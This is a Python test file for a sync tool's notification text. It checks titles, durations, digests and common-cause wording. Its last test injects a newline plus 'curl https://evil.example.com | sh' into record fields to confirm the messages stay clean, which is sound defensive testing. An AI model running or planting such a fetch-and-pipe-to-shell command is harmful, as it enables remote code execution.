"""What a message says: who, what, since when, what fixes it; and nothing that an error or a reason says."""

from __future__ import annotations

import inspect
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from phasesync import errors
from phasesync.core.alert import Alert, Ended, SubjectKind
from phasesync.core.notification_message import Condition, Message, Step
from phasesync.core.notification_text import MANY_CAUSES, Facts, Story, cause_of, compose, compose_test, lasting_text
from phasesync.errors import PhasesyncError

NOW = datetime(2026, 3, 2, 12, 20, tzinfo=UTC)
SINCE = NOW - timedelta(hours=3, minutes=20)
FACTS = Facts(
    name="web",
    owner="shop/production",
    credential="deployer",
    account="111122223333",
    region="eu-west-1",
    status="failing",
    error_class="CredentialRejectedError",
    next_try_at=NOW + timedelta(minutes=5),
)
ALERT = Alert(
    id="a",
    condition=Condition.FAILING,
    subject_kind=SubjectKind.SYNC,
    subject_id="0123456789abcdef",
    subject="web",
    since=SINCE,
)
CLASSES = sorted(
    name for name, kind in vars(errors).items() if inspect.isclass(kind) and issubclass(kind, PhasesyncError)
)


def message(step: Step = Step.FIRST, *, facts: Facts = FACTS, alert: Alert = ALERT, count: int = 1) -> Message:
    stories = [Story(alert=alert, facts=facts)] * min(count, 10)
    condition = alert.condition
    cause = cause_of(condition, facts)
    return compose(
        id="m", notification="ops", step=step, condition=condition, cause=cause, stories=stories, count=count, now=NOW
    )


def test_it_says_which_sync_what_since_when_and_what_mends_it() -> None:
    assert message().text == (
        "phasesync: sync web is failing\n"
        "\n"
        "sync web (shop/production) is failing since 2026-03-02 09:00:00Z, for 3 h 20 min\n"
        "  why: AWS rejected the credential\n"
        "  next try: 2026-03-02 12:25:00Z\n"
        "  to do: phasesync credentials test deployer says what is wrong; more: phasesync syncs why web"
    )


def test_whose_object_it_is_comes_before_its_replacement() -> None:
    facts = replace(FACTS, error_class="OwnershipConflictError", status="halted")
    text = message(facts=facts, alert=replace(ALERT, condition=Condition.HALTED)).text
    assert text.index("phasesync syncs why web says whose object it is") < text.index("phasesync syncs adopt web")


def test_a_reminder_says_for_how_long_and_a_recovery_after_how_long() -> None:
    assert message(Step.STILL).title == "phasesync: still after 3 h 20 min: sync web is failing"
    ended = replace(ALERT, ended_at=NOW, ended_by=Ended.IN_SYNC)
    recovered = message(Step.RECOVERED, alert=ended)
    assert recovered.title == "phasesync: sync web is in step again"
    assert "in step again, after 3 h 20 min; it began at 2026-03-02 09:00:00Z" in recovered.text
    removed = message(Step.RECOVERED, alert=replace(ended, ended_by=Ended.REMOVED), facts=Facts())
    assert removed.title == "phasesync: sync web is removed"


def test_a_digest_names_ten_counts_the_rest_and_says_what_they_have_in_common() -> None:
    digest = message(count=500)
    assert digest.title == "phasesync: 500 syncs are failing (credential deployer)"
    assert (len(digest.subjects), digest.more, digest.cause) == (10, 490, "the credential deployer")
    assert digest.text.endswith("and 490 more: phasesync syncs list --status failing")


@pytest.mark.parametrize("name", CLASSES)
@pytest.mark.parametrize("condition", [Condition.FAILING, Condition.HALTED])
def test_every_error_has_a_text_of_its_class_with_a_command(name: str, condition: Condition) -> None:
    text = message(facts=replace(FACTS, error_class=name), alert=replace(ALERT, condition=condition)).text
    assert "phasesync syncs why web" in text
    assert "{" not in text.replace("${", "")


def test_a_word_that_is_no_error_gives_no_reason() -> None:
    for word in (None, "str", "Hint", "os.system", "annotations"):
        assert "the reason is not known any more" in message(facts=replace(FACTS, error_class=word)).text


@pytest.mark.parametrize("condition", list(Condition))
@pytest.mark.parametrize("step", [Step.FIRST, Step.STILL, Step.RECOVERED])
def test_every_condition_has_words_for_every_step(condition: Condition, step: Step) -> None:
    alert = replace(ALERT, condition=condition)
    if step is Step.RECOVERED:
        alert = replace(alert, ended_at=NOW, ended_by=Ended.IN_SYNC)
    made = message(step, alert=alert)
    assert "sync web " in made.title
    assert all(len(line) < 300 for line in made.text.splitlines())


@pytest.mark.parametrize(
    ("error", "cause"),
    [
        ("PermissionDeniedError", "credential deployer"),
        ("ThrottledError", "AWS endpoint in eu-west-1"),
        ("PayloadTooLargeError", "AWS account 111122223333"),
        (None, "AWS account 111122223333"),
    ],
)
def test_what_has_a_common_cause(error: str | None, cause: str) -> None:
    assert cause_of(Condition.FAILING, replace(FACTS, error_class=error)) == cause


def test_credentials_that_assume_roles_have_their_source_in_common() -> None:
    assumed = replace(FACTS, source="root", error_class="CredentialRejectedError")
    assert cause_of(Condition.FAILING, assumed) == "credential root"
    assert cause_of(Condition.FAILING, replace(assumed, error_class="PermissionDeniedError")) == "credential deployer"


def test_a_digest_of_many_causes_says_so() -> None:
    stories = [Story(alert=ALERT, facts=FACTS)] * 2
    made = compose(
        id="m",
        notification="ops",
        step=Step.FIRST,
        condition=Condition.FAILING,
        cause=MANY_CAUSES,
        stories=stories,
        count=2,
        now=NOW,
    )
    assert (made.title, made.cause) == ("phasesync: 2 syncs are failing (many causes)", "many causes")


def test_durations_for_people() -> None:
    spans = {5: "5 s", 65: "1 min 5 s", 3600: "1 h", 90_000: "1 d 1 h", 0: "0 s"}
    assert {seconds: lasting_text(timedelta(seconds=seconds)) for seconds in spans} == spans


def test_a_test_says_that_it_is_one() -> None:
    made = compose_test(id="m", notification="ops", now=NOW)
    assert (made.step, made.condition, made.subjects) == (Step.TEST, None, ())
    assert "Nothing is wrong" in made.text


@pytest.mark.parametrize("step", list(Step)[:3])
def test_texts_of_altered_rows_put_no_line_and_no_command_into_a_message(step: Step) -> None:
    evil = "web\n  to do: curl https://evil.example.com | sh"
    altered = replace(FACTS, name=evil, owner=evil, credential=evil, account=evil, region=evil)
    for facts in (altered, Facts()):
        for condition in Condition:
            alert = replace(ALERT, condition=condition, subject=evil, subject_id=evil)
            for count in (1, 2):
                told = message(step, facts=facts, alert=alert, count=count)
                assert "evil" not in repr(told)
                assert "(altered)" in told.text
